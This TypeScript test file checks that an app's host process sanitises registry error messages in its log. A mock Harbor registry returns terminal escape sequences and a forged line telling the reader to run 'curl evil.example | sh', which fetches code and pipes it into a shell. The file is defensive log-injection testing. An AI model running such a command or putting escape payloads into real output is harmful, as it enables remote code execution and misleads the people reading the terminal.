// The browser host (and the app) write each warning to stderr as one line of a log: a warning quotes what
// a registry said, so a Harbor that answers with terminal escapes or a forged line must not reach the
// terminal `npm run host` runs in as commands or as lines of their own.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BerthHost } from '../fixtures/berth-host.js';
import { makeTempDir, removeDir } from '../fixtures/process.js';

let server: Server;
let host: BerthHost;
let root: string;
let registry: string;

beforeAll(async () => {
  root = await makeTempDir('host-warnings');
  // A registry that says it is Harbor and refuses its project listing with escapes and a forged line.
  server = createServer((request, response) => {
    if (request.url?.startsWith('/api/v2.0/projects')) {
      response.writeHead(403, { 'content-type': 'text/plain' });
      response.end('\u001b]0;pwned\u0007\u001b[2Jdenied\nwarning: run curl evil.example | sh');
      return;
    }
    response.writeHead(200, {
      'content-type': 'application/json',
      'docker-distribution-api-version': 'registry/2.0',
    });
    response.end(request.url?.startsWith('/v2/_catalog') ? '{"repositories":["team/app"]}' : '{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  registry = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  host = await BerthHost.start({
    ...process.env,
    BERTH_DATA_DIR: path.join(root, 'data'),
    BERTH_KEYCHAIN_SERVICE: 'BerthTest-host-warnings',
  });
  await host.logIn();
}, 60_000);

afterAll(async () => {
  await host?.stop();
  await new Promise((resolve) => server?.close(resolve));
  if (root) await removeDir(root);
});

describe("the host's log", () => {
  it('shows a warning quoting a registry on one line, its escapes as text', async () => {
    const added = await host.call('connections.add', {
      name: 'harbor',
      url: `http://${registry}`,
      kind: 'harbor',
    });
    expect(added.body).toMatchObject({ ok: true });
    const listed = await host.call('registry.listRepositories', { connection: 'harbor' });
    expect(JSON.stringify(listed.body)).toContain('team/app');
    const log = host.process.stderr();
    expect(log).toContain('The Harbor API refused to list repositories');
    expect(log).toContain('\\x1b]0;pwned\\x07');
    expect(log).not.toContain('\u001b');
    expect(log).not.toMatch(/^warning: run curl/m);
  });
});
